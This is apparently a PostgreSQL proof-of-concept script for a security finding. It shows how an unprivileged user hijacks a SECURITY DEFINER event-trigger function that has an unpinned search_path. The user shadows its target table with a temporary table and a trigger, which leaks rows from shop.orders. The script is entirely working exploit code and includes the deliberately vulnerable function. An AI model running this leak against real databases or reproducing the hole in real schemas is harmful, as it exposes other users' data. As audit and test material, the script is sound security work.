-- finding: definer-search-path function shop.on_ddl()
CREATE TABLE shop.log (tag text); ALTER TABLE shop.log OWNER TO shop_owner;
CREATE FUNCTION shop.on_ddl() RETURNS event_trigger LANGUAGE plpgsql SECURITY DEFINER
  AS $$ BEGIN INSERT INTO log VALUES (tg_tag); END $$;
ALTER FUNCTION shop.on_ddl() OWNER TO shop_owner;
CREATE EVENT TRIGGER on_ddl ON ddl_command_end WHEN TAG IN ('CREATE VIEW') EXECUTE FUNCTION shop.on_ddl();
-- leak as alice@example.com
CREATE TEMPORARY TABLE taken (item text);
GRANT INSERT ON pg_temp.taken TO PUBLIC;
CREATE FUNCTION pg_temp.take() RETURNS trigger LANGUAGE plpgsql
  AS $$ BEGIN INSERT INTO pg_temp.taken SELECT item FROM shop.orders; RETURN NEW; END $$;
CREATE TEMPORARY TABLE log (tag text); GRANT INSERT ON pg_temp.log TO PUBLIC;
CREATE TRIGGER take BEFORE INSERT ON log FOR EACH ROW EXECUTE FUNCTION pg_temp.take();
CREATE TEMPORARY VIEW bait AS SELECT 1;
SELECT item FROM pg_temp.taken WHERE item = 'secret';
